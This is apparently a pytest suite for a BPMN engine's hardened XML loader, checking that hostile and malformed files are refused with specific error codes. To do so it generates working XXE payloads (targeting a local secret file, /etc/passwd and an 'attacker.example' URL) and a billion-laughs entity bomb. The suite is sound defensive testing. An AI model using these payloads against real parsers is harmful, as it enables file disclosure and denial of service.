"""Hostile and broken model files are refused by engine.bpmn.safe_xml with a specific message, never parsed.

Every input is generated here, so the attack files are visible in the test and nothing hostile is stored.
"""

from __future__ import annotations

import codecs

import pytest
from lxml import etree

from engine.bpmn import safe_xml
from engine.bpmn.problems import BpmnLoadError
from engine.bpmn.safe_xml import DEFAULT_MAX_BYTES, parse_xml
from engine.bpmn.validation import validate_models

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
MINIMAL = f'<?xml version="1.0" encoding="UTF-8"?>\n<definitions xmlns="{BPMN}" id="d" targetNamespace="t"/>\n'


def refused(data: bytes, **options: int) -> BpmnLoadError:
    with pytest.raises(BpmnLoadError) as caught:
        parse_xml(data, source="model.bpmn", **options)
    assert len(caught.value.problems) == 1
    problem = caught.value.problem
    assert problem.severity == "error" and problem.source == "model.bpmn"
    return caught.value


def xxe(target: str) -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE definitions [\n  <!ENTITY xxe SYSTEM "{target}">\n]>\n'
            f'<definitions xmlns="{BPMN}" id="d" targetNamespace="t"><documentation>&xxe;</documentation>'
            f'</definitions>').encode()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(entities) + "\n]>\n<lolz>&lol9;</lolz>").encode()


def test_xxe_is_refused_before_parsing(tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    error = refused(xxe(secret.as_uri()))
    assert error.problem.code == "xml-doctype"
    assert "'xxe'" in error.problem.message and "XXE" in error.problem.message
    assert error.problem.line == 2
    assert "TOP-SECRET" not in str(error)


def test_xxe_is_not_resolved_even_if_the_doctype_check_were_bypassed(tmp_path, monkeypatch) -> None:
    """Defence in depth: the lxml parser itself resolves no entity and reads no file."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    monkeypatch.setattr(safe_xml, "_refuse_doctype", lambda text, source: None)
    try:
        root = parse_xml(xxe(secret.as_uri()), source="model.bpmn")
    except BpmnLoadError as error:  # refused after parsing: the tree still had a DOCTYPE
        assert error.problem.code == "xml-doctype" and "TOP-SECRET" not in str(error)
    else:
        assert "TOP-SECRET" not in etree.tostring(root, encoding="unicode")


def test_network_entities_are_refused() -> None:
    assert refused(xxe("http://attacker.example/steal")).problem.code == "xml-doctype"


def test_billion_laughs_is_refused() -> None:
    error = refused(billion_laughs())
    assert error.problem.code == "xml-doctype"
    assert "'lol0'" in error.problem.message and "billion laughs" in error.problem.message


def test_billion_laughs_would_not_expand_even_if_the_doctype_check_were_bypassed(monkeypatch) -> None:
    monkeypatch.setattr(safe_xml, "_refuse_doctype", lambda text, source: None)
    try:
        root = parse_xml(billion_laughs(), source="model.bpmn")
    except BpmnLoadError as error:  # libxml2's amplification guard, or our post-parse DOCTYPE check
        assert error.problem.code in ("xml-malformed", "xml-doctype")
    else:
        assert len(etree.tostring(root)) < 10_000


def test_a_doctype_without_entities_is_refused_too() -> None:
    data = f'<?xml version="1.0"?>\n<!-- exported -->\n<!DOCTYPE definitions>\n{MINIMAL.split(chr(10), 1)[1]}'.encode()
    error = refused(data)
    assert error.problem.code == "xml-doctype" and error.problem.line == 3


def test_a_huge_file_is_refused_by_size_before_parsing() -> None:
    body = b"<documentation>" + b"x" * DEFAULT_MAX_BYTES + b"</documentation>"
    error = refused(MINIMAL.encode().replace(b"/>", b">" + body + b"</definitions>"))
    assert error.problem.code == "xml-too-large"
    assert "5.0 MiB limit" in error.problem.message


def test_the_size_limit_is_configurable() -> None:
    assert refused(MINIMAL.encode(), max_bytes=50).problem.code == "xml-too-large"
    assert parse_xml(MINIMAL.encode(), source="model.bpmn", max_bytes=len(MINIMAL)).tag == f"{{{BPMN}}}definitions"


def test_deep_nesting_is_refused_as_malformed() -> None:
    data = MINIMAL.replace("/>", ">" + "<extensionElements>" * 5000 + "</extensionElements>" * 5000
                           + "</definitions>").encode()
    error = refused(data)
    assert error.problem.code == "xml-malformed"


@pytest.mark.parametrize(("data", "kind"), [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "PNG image"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF document"),
    (b"PK\x03\x04\x14\x00\x06\x00" + bytes(40), "ZIP archive"),
    (b"\x7fELF\x02\x01\x01" + bytes(40), "executable"),
])
def test_binary_files_are_named(data: bytes, kind: str) -> None:
    error = refused(data)
    assert error.problem.code == "xml-binary" and kind in error.problem.message


def test_unknown_binary_content_is_refused() -> None:
    error = refused(bytes(range(256)) * 4)
    assert error.problem.code == "xml-binary"


def test_plain_text_is_refused() -> None:
    error = refused("审批流程：受理 → 审查 → 决定\n".encode())
    assert error.problem.code == "xml-not-xml"
    assert "begins with '审批流程" in error.problem.message


def test_empty_file_is_refused() -> None:
    assert refused(b"  \n ").problem.code == "xml-empty"


def test_invalid_utf8_is_refused_with_its_position() -> None:
    data = MINIMAL.replace('id="d"', 'id="d" name="caf\udce9"').encode("utf-8", "surrogateescape")
    error = refused(data)
    assert error.problem.code == "xml-encoding"
    assert "not valid UTF-8" in error.problem.message and "0xE9 at line 2" in error.problem.message
    assert error.problem.line == 2


def test_bytes_invalid_in_the_declared_encoding_are_refused() -> None:
    data = MINIMAL.replace("UTF-8", "GB18030").encode("ascii").replace(b'id="d"', b'id="d" name="\x81"')
    error = refused(data)
    assert error.problem.code == "xml-encoding" and "not valid GB18030" in error.problem.message


@pytest.mark.parametrize("encoding", ["UTF-7", "IBM037", "no-such-encoding"])
def test_unsupported_or_unknown_encodings_are_refused(encoding: str) -> None:
    error = refused(MINIMAL.replace("UTF-8", encoding).encode("ascii"))
    assert error.problem.code == "xml-encoding" and repr(encoding) in error.problem.message


def test_utf16_declared_without_byte_order_mark_is_refused() -> None:
    error = refused(MINIMAL.replace("UTF-8", "UTF-16").encode("ascii"))
    assert error.problem.code == "xml-encoding" and "byte-order mark" in error.problem.message


@pytest.mark.parametrize(("encoding", "text"), [("GB18030", "工程建设项目审批"), ("windows-1252", "Café"),
                                                ("ISO-8859-1", "Genehmigung für Bauvorhaben")])
def test_common_legacy_encodings_load(encoding: str, text: str) -> None:
    data = MINIMAL.replace("UTF-8", encoding).replace('id="d"', f'id="d" name="{text}"').encode(encoding)
    assert parse_xml(data, source="model.bpmn").get("name") == text


def test_utf16_with_byte_order_mark_loads() -> None:
    data = codecs.BOM_UTF16_LE + MINIMAL.replace("UTF-8", "UTF-16").encode("utf-16-le")
    assert parse_xml(data, source="model.bpmn").get("id") == "d"


def test_malformed_xml_gives_lxmls_reason_and_line() -> None:
    error = refused(MINIMAL.replace("/>", "><process id='p'></definitions>").encode())
    assert error.problem.code == "xml-malformed"
    assert error.problem.line == 2 and "mismatch" in error.problem.message


def test_parse_xml_refuses_text_instead_of_bytes() -> None:
    with pytest.raises(TypeError):
        parse_xml(MINIMAL, source="model.bpmn")  # type: ignore[arg-type]


def test_the_validator_reports_hostile_files_instead_of_raising(tmp_path) -> None:
    report = validate_models([("a.bpmn", xxe("file:///etc/passwd")), ("b.bpmn", billion_laughs()),
                              ("c.png", b"\x89PNG\r\n\x1a\n" + bytes(64)), ("d.txt", b"hello")])
    assert [(p.source, p.code) for p in report.errors] == [
        ("a.bpmn", "xml-doctype"), ("b.bpmn", "xml-doctype"), ("c.png", "xml-binary"), ("d.txt", "xml-not-xml")]
    assert str(report.errors[0]).startswith("a.bpmn:2: error [xml-doctype] ")
